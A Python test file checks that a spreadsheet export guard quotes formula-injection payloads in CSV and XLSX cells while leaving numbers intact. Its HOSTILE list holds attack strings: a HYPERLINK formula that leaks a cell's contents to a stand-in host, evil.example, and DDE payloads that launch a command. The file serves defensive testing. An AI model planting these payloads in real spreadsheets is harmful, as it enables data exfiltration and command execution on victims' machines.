"""Cells written to CSV and XLSX cannot run as formulas; numbers stay numbers (OWASP)."""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING

import numpy as np
import openpyxl
import pandas as pd
import pytest

from landscape.render.cells import safe_cell
from landscape.render.files import write_csv

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "=1+1",
    "+62 812 3456 7890",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "- kegiatan pertama",
    "-",
    "=",
]
PLAIN = ["Dinas LH", "", " =1+1 ", "Rp 1.500.000", "61.05.01", "'quoted already", "a=b"]
NUMBERS_AS_TEXT = ["-12.5", "+3", "-1500000", "1e6", "-.5"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_run_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN + NUMBERS_AS_TEXT)
def test_other_text_and_numbers_written_as_text_are_left_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-1_500_000, -0.25, 0, 3.5, np.int64(-7), np.float64(-2.5),
                                   None, True])
def test_values_that_are_not_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) is value


def test_write_csv_quotes_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "title": [HOSTILE[0], "Patroli", HOSTILE[3]],
        "codes": [("=1+1", "61.05"), ("61.05.01",), ()],
        "amount": [-1500, 20, -3],
        "share": [-0.5, 1.25, np.nan],
        "budget_idr": [-2_500_000.4, None, 7.0],
        "note": ["-12.5", "@x", None],
    })
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    with path.open(encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["title", "codes", "amount", "share", "budget_idr", "note"]
    assert rows == [
        ["'" + HOSTILE[0], "'=1+1; 61.05", "-1500", "-0.5", "-2500000", "-12.5"],
        ["Patroli", "61.05.01", "20", "1.25", "", "'@x"],
        ["'" + HOSTILE[3], "", "-3", "", "7", ""],
    ]


def test_a_column_name_that_could_run_is_quoted(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(pd.DataFrame({"=cmd": ["a"], "org": ["b"]}), path)
    assert path.read_text(encoding="utf-8").splitlines()[0] == "'=cmd,org"


def test_xlsx_cells_passed_through_safe_cell_are_text_and_numbers_stay_numbers(
        tmp_path: Path) -> None:
    values = [*HOSTILE, -1_500_000, -0.25, "-12.5"]
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([safe_cell(v) for v in values])
    sheet.append(values)  # the control: as they came
    path = tmp_path / "t.xlsx"
    book.save(path)
    read = openpyxl.load_workbook(path)
    safe, raw = read.active.iter_rows(values_only=False)  # type: ignore[union-attr]
    assert [c.data_type for c in safe] == ["s"] * len(HOSTILE) + ["n", "n", "s"]
    assert [c.value for c in safe][-3:] == [-1_500_000, -0.25, "-12.5"]
    assert all(str(c.value).startswith("'") for c in safe[:len(HOSTILE)])
    # without safe_cell openpyxl stores text beginning with "=" as a formula
    assert raw[0].data_type == "f"
